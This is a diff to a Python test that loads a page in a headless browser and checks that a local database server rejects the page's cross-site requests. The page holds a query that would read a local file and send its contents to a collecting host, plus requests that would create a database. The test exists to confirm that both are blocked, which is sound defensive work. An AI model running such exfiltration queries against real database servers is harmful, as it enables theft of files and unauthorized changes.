@@ -173,8 +173,8 @@ async def test_a_page_in_a_browser_reaches_nothing(server: Server, tmp_path: Pat
         async with async_playwright() as playwright:
             browser = await playwright.chromium.launch(executable_path=found, args=["--disable-gpu"], chromium_sandbox=False)
             shown = await browser.new_page()
-            answers: dict[str, int] = {}
-            shown.on("response", lambda answer: answers.update({f"{answer.request.method} {answer.url}": answer.status}))
+            answers: list[tuple[str, str, int]] = []
+            shown.on("response", lambda answer: answers.append((answer.request.method, answer.url, answer.status)))
             await shown.goto(f"http://127.0.0.1:{address[1]}/")
             await shown.wait_for_function("window.finished === true")
             async with shown.expect_navigation():
@@ -185,8 +185,8 @@ async def test_a_page_in_a_browser_reaches_nothing(server: Server, tmp_path: Pat
             await browser.close()
     finally:
         await runner.cleanup()
-    ours = {what.split("?")[0]: status for what, status in answers.items() if server.url in what}
-    assert ours == {f"GET {server.url}/": 403, f"POST {server.url}/": 403}
+    ours = sorted((method, status) for method, url, status in answers if url.startswith(server.url))
+    assert ours == [("GET", 403), ("GET", 403), ("POST", 403), ("POST", 403)]
     assert caught == []
     with server.client() as client:
         assert client.query("SELECT count() FROM system.databases WHERE name = 'made_by_a_page'").first_row == (0,)
@@ -194,13 +194,15 @@ async def test_a_page_in_a_browser_reaches_nothing(server: Server, tmp_path: Pat
 
 def _page(server: Server, file: str, here: str) -> str:
     steal = f"SELECT * FROM url('http://{here}/caught?' || file('{file}'), 'CSV', 'a String')"  # noqa: S608
-    image = f"{server.url}/?{urlencode({'query': steal})}"
+    images = [f"{server.url}/?{urlencode({'query': query})}" for query in (steal, "SELECT 1")]
     make = f"{server.url}/?{urlencode({'query': 'CREATE DATABASE made_by_a_page'})}"
     return f"""<!doctype html><body><form method="post" enctype="text/plain" action="{make}"><input name="x" value="y"></form>
 <script>
-const image = new Image();
-const drawn = new Promise(done => {{ image.onerror = image.onload = done; }});
-image.src = {image!r};
+const drawn = {images!r}.map(source => new Promise(done => {{
+  const image = new Image();
+  image.onerror = image.onload = done;
+  image.src = source;
+}}));
 const sent = fetch({make!r}, {{method: "POST", mode: "no-cors", body: "", headers: {{"Content-Type": "text/plain"}}}});
-Promise.allSettled([drawn, sent]).then(() => {{ window.finished = true; }});
+Promise.allSettled([...drawn, sent]).then(() => {{ window.finished = true; }});
 </script></body>"""
